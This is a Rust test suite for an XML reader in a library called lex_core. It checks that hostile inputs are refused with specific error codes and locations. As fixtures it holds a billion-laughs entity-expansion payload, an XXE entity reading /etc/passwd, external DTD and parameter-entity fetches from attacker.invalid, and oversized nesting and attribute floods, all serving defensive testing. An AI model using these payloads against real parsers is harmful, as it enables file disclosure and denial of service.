//! Hostile XML: every attack is refused with a stable code and a location, before anything
//! is expanded or grows beyond the limits.

// Test helpers (outside #[test] functions) may unwrap too.
#![allow(clippy::unwrap_used)]

use lex_core::api::{Limits, ReadMode, ReadOptions};
use lex_core::{Error, Format, Message};

/// Reads every message of `input` in `format`, through the façade.
fn read(input: &[u8], format: Format, opts: &ReadOptions) -> lex_core::Result<Vec<Message>> {
    lex_core::api::parse_all(input, Some(format), opts)
}

fn read_err(input: &[u8], opts: &ReadOptions) -> Error {
    match read(input, Format::Xml, opts) {
        Ok(m) => panic!("expected an error, read {:?}", m[0].root()),
        Err(e) => e,
    }
}

fn tolerant_err(input: &str) -> Error {
    read_err(input.as_bytes(), &ReadOptions::default())
}

/// line, column, offset of an error.
fn at(e: &Error) -> (u64, u64, u64) {
    (
        e.location.line.unwrap(),
        e.location.column.unwrap(),
        e.location.offset.unwrap(),
    )
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lex><header><messageId>&lol9;</messageId></header></lex>"#;

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    for mode in [ReadMode::Tolerant, ReadMode::Strict] {
        let e = read_err(
            BILLION_LAUGHS.as_bytes(),
            &ReadOptions {
                mode,
                ..ReadOptions::default()
            },
        );
        assert_eq!(e.code(), "FORBIDDEN_CONSTRUCT");
        assert_eq!(at(&e), (2, 1, 22));
        assert!(e.message.contains("DOCTYPE"), "{}", e.message);
    }
}

#[test]
fn external_entities_are_refused() {
    let file = "<?xml version=\"1.0\"?>\n<!DOCTYPE lex [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<lex><header><messageId>&xxe;</messageId></header></lex>";
    let e = tolerant_err(file);
    assert_eq!(e.code(), "FORBIDDEN_CONSTRUCT");
    assert_eq!(at(&e), (2, 1, 22));
    let net = "<!DOCTYPE lex SYSTEM \"http://attacker.invalid/lex.dtd\"><lex/>";
    assert_eq!(tolerant_err(net).code(), "FORBIDDEN_CONSTRUCT");
    let param = "<!DOCTYPE lex [<!ENTITY % p SYSTEM \"http://attacker.invalid/x\"> %p;]><lex/>";
    assert_eq!(tolerant_err(param).code(), "FORBIDDEN_CONSTRUCT");
}

#[test]
fn undeclared_entity_references_are_never_expanded() {
    let e = tolerant_err("<lex>\n  <header><messageId>a&xxe;b</messageId></header></lex>");
    assert_eq!(e.code(), "FORBIDDEN_CONSTRUCT");
    assert_eq!(at(&e), (2, 23, 28));
    let e = tolerant_err("<lex><_ k=\"&lol9;\">x</_></lex>");
    assert_eq!(e.code(), "FORBIDDEN_CONSTRUCT");
}

#[test]
fn hundred_thousand_deep_is_a_depth_error() {
    let depth = 100_000;
    let mut doc = String::from("<lex>");
    for _ in 0..depth {
        doc.push_str("<a>");
    }
    for _ in 0..depth {
        doc.push_str("</a>");
    }
    doc.push_str("</lex>");
    for mode in [ReadMode::Tolerant, ReadMode::Strict] {
        let e = read_err(
            doc.as_bytes(),
            &ReadOptions {
                mode,
                ..ReadOptions::default()
            },
        );
        assert_eq!(e.code(), "DEPTH_LIMIT_EXCEEDED");
        // The 129th element (the root plus 127 <a>, then one more) is refused.
        assert_eq!(at(&e), (1, 5 + 127 * 3 + 1, 5 + 127 * 3));
    }
    // Unclosed depth (no end tags at all) stops at the same place.
    let open: String = std::iter::once("<lex>")
        .chain(std::iter::repeat_n("<a>", depth))
        .collect();
    assert_eq!(tolerant_err(&open).code(), "DEPTH_LIMIT_EXCEEDED");
}

#[test]
fn deep_json_inside_a_json_typed_element_is_bounded() {
    let doc = format!(
        "<lex><x t=\"json\">{}{}</x></lex>",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let e = tolerant_err(&doc);
    assert_eq!(e.code(), "DEPTH_LIMIT_EXCEEDED");
    assert_eq!(at(&e), (1, 6, 5));
}

#[test]
fn limits_are_enforced() {
    let limits = Limits {
        max_input_bytes: 100,
        ..Limits::default()
    };
    let opts = ReadOptions {
        limits,
        ..ReadOptions::default()
    };
    let big = format!("<lex><a>{}</a></lex>", "x".repeat(200));
    assert_eq!(
        read_err(big.as_bytes(), &opts).code(),
        "SIZE_LIMIT_EXCEEDED"
    );

    let opts = ReadOptions {
        limits: Limits {
            max_string_bytes: 10,
            ..Limits::default()
        },
        ..ReadOptions::default()
    };
    let long = "<lex><a>0123456789AB</a></lex>";
    let e = read_err(long.as_bytes(), &opts);
    assert_eq!(e.code(), "TOKEN_LIMIT_EXCEEDED");
    assert_eq!(at(&e), (1, 9, 8));

    let opts = ReadOptions {
        limits: Limits {
            max_nodes: 3,
            ..Limits::default()
        },
        ..ReadOptions::default()
    };
    let many = "<lex><a>1</a><b>2</b><c>3</c></lex>";
    let e = read_err(many.as_bytes(), &opts);
    assert_eq!(e.code(), "COUNT_LIMIT_EXCEEDED");
    assert_eq!(at(&e), (1, 22, 21));

    let opts = ReadOptions {
        limits: Limits {
            max_number_chars: 5,
            ..Limits::default()
        },
        ..ReadOptions::default()
    };
    let num = "<lex><a t=\"number\">1234567</a></lex>";
    assert_eq!(
        read_err(num.as_bytes(), &opts).code(),
        "TOKEN_LIMIT_EXCEEDED"
    );
}

#[test]
fn a_million_siblings_hit_the_node_limit_not_memory() {
    let opts = ReadOptions {
        limits: Limits {
            max_nodes: 10_000,
            ..Limits::default()
        },
        ..ReadOptions::default()
    };
    let doc = format!("<lex>{}</lex>", "<a t=\"null\"/>".repeat(1_000_000));
    assert_eq!(
        read_err(doc.as_bytes(), &opts).code(),
        "COUNT_LIMIT_EXCEEDED"
    );
}

#[test]
fn malformed_and_illegal_input_is_a_syntax_error_with_location() {
    type Case<'a> = (&'a [u8], &'a str, (u64, u64, u64));
    let cases: [Case<'_>; 7] = [
        (b"<lex>\n<a>x</b></lex>", "SYNTAX_ERROR", (2, 5, 10)),
        (b"<lex><a>\x01</a></lex>", "SYNTAX_ERROR", (1, 9, 8)),
        (b"<lex><a>&#1;</a></lex>", "SYNTAX_ERROR", (1, 9, 8)),
        (b"<lex/><lex/>", "SYNTAX_ERROR", (1, 7, 6)),
        (b"<lex><a>x</a>", "SYNTAX_ERROR", (1, 14, 13)),
        (b"<lex>\xff</lex>", "INVALID_ENCODING", (1, 6, 5)),
        (
            b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><lex/>",
            "INVALID_ENCODING",
            (1, 1, 0),
        ),
    ];
    for (input, code, loc) in cases {
        let e = read_err(input, &ReadOptions::default());
        assert_eq!(e.code(), code, "{}", String::from_utf8_lossy(input));
        assert_eq!(at(&e), loc, "{}: {e}", String::from_utf8_lossy(input));
    }
    assert_eq!(tolerant_err("   ").code(), "EMPTY_INPUT");
    assert_eq!(tolerant_err("<other/>").code(), "NOT_A_LEX_MESSAGE");
}

#[test]
fn many_attributes_on_one_element_are_refused_early() {
    let attrs: String = (0..100_000).map(|i| format!(" a{i}=\"\"")).collect();
    let doc = format!("<lex><x{attrs}/></lex>");
    let e = tolerant_err(&doc);
    assert_eq!(e.code(), "COUNT_LIMIT_EXCEEDED");
    assert_eq!(at(&e), (1, 6, 5));
}

#[test]
fn warnings_of_one_kind_are_capped_and_summarised() {
    let doc = format!(
        "<lex><x t=\"array\">{}</x></lex>",
        "<item>1</item>".repeat(1500)
    );
    let msgs = read(doc.as_bytes(), Format::Xml, &ReadOptions::default()).unwrap();
    let issues = msgs[0].read_issues();
    assert_eq!(issues.len(), 1001);
    assert!(issues[..1000].iter().all(|i| i.code == "XML_TYPE_INFERRED"));
    assert_eq!(issues[999].pointer, "/lex/x/999");
    assert_eq!(issues[1000].code, "XML_TYPE_INFERRED");
    assert!(
        issues[1000].message.starts_with("500 more"),
        "{}",
        issues[1000].message
    );
    assert_eq!(
        msgs[0].pointer("/lex/x/1499"),
        Some(&lex_core::Value::int(1))
    );
}
